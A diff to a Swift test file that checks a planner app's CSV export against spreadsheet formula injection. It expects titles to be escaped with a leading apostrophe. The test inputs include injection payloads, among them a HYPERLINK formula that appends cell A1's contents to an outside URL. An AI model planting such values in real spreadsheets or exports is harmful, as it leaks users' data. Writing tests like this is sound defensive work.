@@ -41,6 +41,18 @@ struct TableTests {
     return records.dropLast()
   }
 
+  @Test(arguments: [
+    "=1+1", "+1", "-1", "@SUM(A1)", " =1+1", "\u{3000}=1", "\u{FF1D}1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}x",
+    "=HYPERLINK(\"http://example.org?\"&A1,\"x, y\")",
+  ])
+  func noCellIsAFormula(_ title: String) throws {
+    let task = FocusTask(id: .random(), title: title, createdAt: Instant(seconds: 0))
+    let day = try #require(CivilDate("2026-11-21"))
+    let record = try records(ExportFormat.csv.text([DayPlan(day: day, entries: [task])]))[1]
+    #expect(record[2] == "'\(title)")
+    #expect(record.allSatisfy { !["=", "+", "-", "@"].contains($0.first) })
+  }
+
   @Test(arguments: 0..<200)
   func everyTaskIsARecord(_ seed: UInt64) throws {
     var random = SeededGenerator(seed: seed)
@@ -52,7 +64,8 @@ struct TableTests {
     #expect(records.count == tasks.count + 1)
     for (record, (plan, task)) in zip(records.dropFirst(), tasks) {
       let fields = Dictionary(uniqueKeysWithValues: zip(names, record))
-      #expect(fields["title"] == task.title && fields["id"] == task.id.description)
+      #expect(
+        [task.title, "'\(task.title)"].contains(fields["title"]) && fields["id"] == task.id.description)
       #expect(fields["day"] == plan.day.description && fields["priority"] == task.priority.rawValue)
       #expect(fields["state"] == plan.state(of: task.id)?.rawValue)
       #expect(fields["end"] == task.schedule.range?.end.description ?? "")
